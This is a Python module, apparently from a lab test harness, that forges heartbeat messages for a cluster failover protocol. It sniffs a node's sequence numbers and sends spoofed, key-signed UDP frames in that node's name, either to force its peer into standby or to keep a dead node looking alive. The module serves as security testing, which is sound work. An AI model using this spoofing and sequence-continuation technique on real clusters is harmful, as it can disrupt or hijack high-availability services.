"""Forge heartbeats: speak in a cluster node's name from another lab host.

An attacker on the heartbeat segment who knows the key can do exactly this, and
that is what a shared key means. The forger learns the victim's place in its
sequence as its peer receives it (sniffing the peer's eth1 inside the lab), then
sends messages continuing that sequence from another lab host (gw), with the
victim's source address, signed with the key it was given:

* :class:`Forger` sends any message: ``forger.send_message([("t", "hb_takeover"),
  ("rsc_hold", "all")])`` asks the peer to go standby in the victim's name;
* :class:`StatusForger` keeps a dead node "alive" with status messages.

Frames go out of a packet socket in the sender's namespace to the target's MAC:
nothing leaves the lab, nothing is added to the machine's root namespace.
"""

from __future__ import annotations

import select
import threading
import time
from collections.abc import Iterable
from dataclasses import dataclass
from typing import Any

from scapy.layers.inet import IP, UDP
from scapy.layers.l2 import Ether

from lab import freezes, netsock
from lab.hbcodec import CodecError, FieldType, Keyring, Message, keyring_of, parse_untrusted
from lab.hbpacket import signed_datagram
from lab.topology import Topology

HB_PORT = 694
ETH_P_IP = 0x0800
SEQ_SKIP = 5
SEQ_AHEAD = 20  # past every message the victim sends in a standby exchange (§4.5)
# The fields Heartbeat appends to what the caller supplied (protocol.md §3.1), copied
# from the victim's own last message so the forgery carries its uuid, load and ttl.
CONTROL_FIELDS = ("src", "srcuuid", "seq", "hg", "ts", "ld", "ttl")


@dataclass
class Learned:
    """What the forger knows of the victim: its last messages and highest seq."""

    last: Message | None = None  # its last status
    last_sequenced: Message | None = None  # its last message with a seq, any type
    max_seq: int = 0
    hg: int | None = None
    seen: int = 0


@dataclass(frozen=True)
class Forged:
    """One forged message as sent: the message and its seq and generation."""

    message: Message
    seq: int
    hg: int
    payload: bytes


class Forger:
    """Learn ``victim``'s sequence on ``target``'s eth1; send in its name from ``sender``."""

    def __init__(
        self,
        topo: Topology,
        netns: dict[str, str],
        victim: str,
        target: str,
        sender: str,
        keys: Keyring | Any,
    ) -> None:
        self.topo, self.victim, self.target = topo, victim, target
        self.keys = keyring_of(keys)
        victim_host, target_host = topo.host(victim), topo.host(target)
        sender_host = topo.host(sender)
        assert victim_host and target_host and sender_host
        self.victim_ip = str(victim_host.address_on("eth1").ip)  # type: ignore[union-attr]
        target_if = target_host.interface("eth1")
        assert target_if is not None
        self.target_ip, self.target_mac = str(target_if.address.ip), target_if.mac
        sender_if = sender_host.interface("eth1")
        assert sender_if is not None
        self.sender_mac = sender_if.mac
        self.sniff_sock = netsock.packet_socket(netns[target], "eth1", ETH_P_IP)
        self.send_sock = netsock.packet_socket(netns[sender], "eth1", ETH_P_IP)
        self.learned = Learned()
        self.sent = 0
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self._threads: list[threading.Thread] = []

    # -- learning ------------------------------------------------------------------
    def start_learning(self, max_seconds: float = 300.0) -> None:
        self._spawn(self._learn_loop, max_seconds)

    def _learn_loop(self, max_seconds: float) -> None:
        deadline = time.monotonic() + max_seconds
        while not self._stop.is_set() and time.monotonic() < deadline:
            ready, _, _ = select.select([self.sniff_sock], [], [], 0.1)
            if ready:
                self._observe(self.sniff_sock.recv(65535))

    def _observe(self, frame: bytes) -> None:
        pkt = Ether(frame)
        if UDP not in pkt or pkt[UDP].dport != HB_PORT or pkt[IP].src != self.victim_ip:
            return
        if pkt[Ether].src == self.sender_mac:
            return  # our own forgery, seen arriving: not what the victim said
        try:
            msg = parse_untrusted(bytes(pkt[UDP].payload)).message
        except CodecError:
            return
        seq, hg = msg.get("seq"), msg.get("hg")
        if msg.get("src") != self.victim or seq is None or hg is None:
            return
        with self._lock:
            learned = self.learned
            if learned.hg is not None and int(hg, 16) != learned.hg:
                learned.max_seq = 0  # it restarted: a new generation counts from 1
            learned.seen += 1
            learned.hg = int(hg, 16)
            learned.max_seq = max(learned.max_seq, int(seq, 16))
            learned.last_sequenced = msg
            if msg.type == "status":
                learned.last = msg

    # -- forging -------------------------------------------------------------------
    def message(
        self,
        fields: Iterable[tuple[str, str]],
        seq: int,
        *,
        hg: int | None = None,
        now: float | None = None,
    ) -> Message:
        """``fields`` (the caller's, ``t`` first) followed by the victim's control
        fields as Heartbeat appends them: its src and uuid, our ``seq``, its
        generation (or ``hg``), ``ts`` now, its load and ttl."""
        with self._lock:
            template = self.learned.last_sequenced
            learned_hg = self.learned.hg
        if template is None or learned_hg is None:
            raise RuntimeError(f"never saw a message from {self.victim} to learn from")
        msg = Message()
        for name, value in fields:
            msg.add(name, value)
        stamp = time.time() if now is None else now
        values = {
            "seq": f"{seq:x}",
            "hg": f"{learned_hg if hg is None else hg:x}",
            "ts": f"{int(stamp):x}",
        }
        for name in CONTROL_FIELDS:
            if name in values:
                msg.add(name, values[name])
                continue
            field = next((f for f in template if f.name == name), None)
            if field is None:
                continue
            if field.type is FieldType.STRING:
                msg.add(name, field.value)
            else:
                msg.fields.append(field)
        return msg

    def next_seq(self, skip: int = SEQ_AHEAD) -> int:
        """A seq ``skip`` past the victim's highest: the receiver takes it as new.

        Not the very next one: the victim's own next messages are often its answers
        to what the forgery sets off (``ask_resources info=other``), and whichever of
        two messages with one seq arrives second is dropped as a duplicate. The gap
        is filled by the victim's real messages (the receiver takes them as missing
        ones; a request for a seq not sent yet is ignored, not refused, §3.4); its
        message that reaches the forged seq, some seconds later, is the one dropped.
        """
        with self._lock:
            return self.learned.max_seq + skip

    def passed(self, forged: Forged) -> bool:
        """Has the victim itself sent the forged seq (in the forged generation)? From
        then on nothing it sends collides with the forgery."""
        with self._lock:
            return self.learned.hg == forged.hg and self.learned.max_seq >= forged.seq

    def send_message(
        self,
        fields: Iterable[tuple[str, str]],
        *,
        seq: int | None = None,
        hg: int | None = None,
        keys: Keyring | Any | None = None,
    ) -> Forged:
        """Forge one message in the victim's name, sign it (with ``keys``, default the
        forger's) and send it to the target from the sender host; ``seq`` defaults to
        :meth:`next_seq`."""
        number = self.next_seq() if seq is None else seq
        msg = self.message(fields, number, hg=hg)
        payload = signed_datagram(msg, self.keys if keys is None else keyring_of(keys))
        self.send(payload)
        generation = int(msg.get("hg") or "0", 16)
        return Forged(msg, number, generation, payload)

    def send(self, payload: bytes) -> None:
        """One datagram to the target, from the sender's eth1, spoofing the victim."""
        frame = (
            Ether(src=self.sender_mac, dst=self.target_mac)
            / IP(src=self.victim_ip, dst=self.target_ip)
            / UDP(sport=32768, dport=HB_PORT)
            / payload
        )
        self.send_sock.send(bytes(frame))
        self.sent += 1

    # -- life ----------------------------------------------------------------------
    def _spawn(self, target: object, *args: object) -> None:
        thread = threading.Thread(target=target, args=args, daemon=True)  # type: ignore[arg-type]
        thread.start()
        self._threads.append(thread)

    def stop(self) -> None:
        self._stop.set()
        for thread in self._threads:
            thread.join(5.0)
        self.sniff_sock.close()
        self.send_sock.close()

    def __enter__(self) -> Forger:
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop()


class StatusForger(Forger):
    """Keep ``victim`` "alive": status messages in its name, continuing its sequence."""

    def forge_status(self, seq: int, now: float) -> bytes:
        """A status from the victim, continuing its sequence, signed with our key."""
        with self._lock:
            template = self.learned.last
        if template is None:
            raise RuntimeError(f"never saw a status from {self.victim} to copy")
        msg = Message()
        for field in template:
            if field.name == "auth":
                continue
            if field.name == "seq":
                msg.add("seq", f"{seq:x}")
            elif field.name == "ts":
                msg.add("ts", f"{int(now):x}")
            elif field.type is FieldType.STRING:
                msg.add(field.name, field.value)
            else:
                msg.fields.append(field)
        return signed_datagram(msg, self.keys)

    def start_forging(self, interval: float, max_seconds: float = 300.0) -> None:
        self._spawn(self._forge_loop, interval, max_seconds)

    def _forge_loop(self, interval: float, max_seconds: float) -> None:
        # Forging lasts ``max_seconds`` of this process's running time, as the checks
        # beside it wait (lab.freezes): after a stall, a check that must see the forgery
        # still holding would otherwise find it over.
        deadline, wall_started = time.monotonic() + max_seconds, time.time()
        # Skip a few: frames still queued in the sniffer must not make us reuse a seq.
        seq = self.next_seq(SEQ_SKIP)
        while not self._stop.is_set() and time.monotonic() < freezes.extended(
            deadline, wall_started
        ):
            seq += 1
            self.send(self.forge_status(seq, time.time()))
            self._stop.wait(interval)
